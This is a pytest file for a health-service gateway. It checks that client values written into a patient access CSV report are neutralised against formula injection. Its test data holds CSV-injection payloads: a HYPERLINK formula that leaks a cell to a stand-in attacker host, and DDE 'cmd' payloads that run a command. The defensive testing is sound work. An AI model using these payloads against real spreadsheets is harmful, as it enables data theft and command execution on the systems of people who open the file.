"""The patient access report as CSV: what a client sent cannot become a spreadsheet
formula (OWASP's CSV injection advice), and the recorded value can still be read back."""

from __future__ import annotations

import base64
import csv
import io
import json

import httpx
import pytest

from gateway.access_log.report_csv import inert_cell
from tests.builders import PATIENT_NHS_NUMBER, service_request
from tests.servers import running_server, served_token

# What an attacker would put in a header the access log records, one per leading
# character a spreadsheet evaluates.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)


def _recorded(cell: str) -> str:
    """A report cell read back as the log recorded it: one leading quote removed."""
    return cell[1:] if cell.startswith("'") else cell


def _practitioner(value: str) -> str:
    role = {
        "resourceType": "PractitionerRole",
        "identifier": [{"system": "https://fhir.nhs.uk/Id/sds-user-id", "value": value}],
    }
    return base64.b64encode(json.dumps(role).encode()).decode()


# An empty store of its own: what earlier tests in this worker left (another key's
# checkpoints, say) is no part of this test.
@pytest.mark.usefixtures("database")
def test_a_real_server_writes_client_values_into_the_report_as_inert_text(
    database_url: str,
) -> None:
    with running_server(database_url) as base:
        provider = served_token(base)
        created = httpx.post(
            f"{base}/fhir/ServiceRequest",
            json=service_request(),
            headers={**provider, "Content-Type": "application/fhir+json"},
        )
        assert created.status_code == 201, created.text
        location = f"{base}/fhir/ServiceRequest/{created.json()['id']}"
        for formula in FORMULAS:
            read = httpx.get(
                location,
                headers={**provider, "NHSD-Requesting-Practitioner": _practitioner(formula)},
            )
            assert read.status_code == 200, read.text
        by_request_id = httpx.get(location, headers={**provider, "X-Request-ID": "-A1-A2"})
        assert by_request_id.status_code == 200

        report = httpx.post(
            f"{base}/audit/reports/patient-access",
            data={"patient": PATIENT_NHS_NUMBER, "format": "csv"},
            headers=served_token(base, "demo-ig-lead"),
        )
    assert report.status_code == 200, report.text
    lines = report.text.splitlines()
    # Every cell quoted: no separator or line break inside a value can shift a column.
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    header, *rows = list(csv.reader(io.StringIO(report.text)))
    end_users = [row[header.index("end_user")] for row in rows]
    request_ids = [row[header.index("request_id")] for row in rows]
    neutralised = [cell for cell in [*end_users, *request_ids] if cell.startswith("'")]
    assert sorted(neutralised) == sorted(["'-A1-A2", *(f"'{formula}" for formula in FORMULAS)])
    # Nothing left that a spreadsheet would evaluate, and the raw values come back.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
    assert sorted(_recorded(cell) for cell in neutralised) == sorted(["-A1-A2", *FORMULAS])


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "'=1+1", "\uff1d1+1", "\uff20A1"],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(value: str) -> None:
    cell = inert_cell(value)
    assert cell == f"'{value}"
    assert _recorded(cell) == value


@pytest.mark.parametrize("value", ["", "demo-provider-epr", "2026-01-01T00:00:00Z", "a=b"])
def test_an_ordinary_cell_is_left_as_it_is(value: str) -> None:
    assert inert_cell(value) == value
    assert _recorded(inert_cell(value)) == value
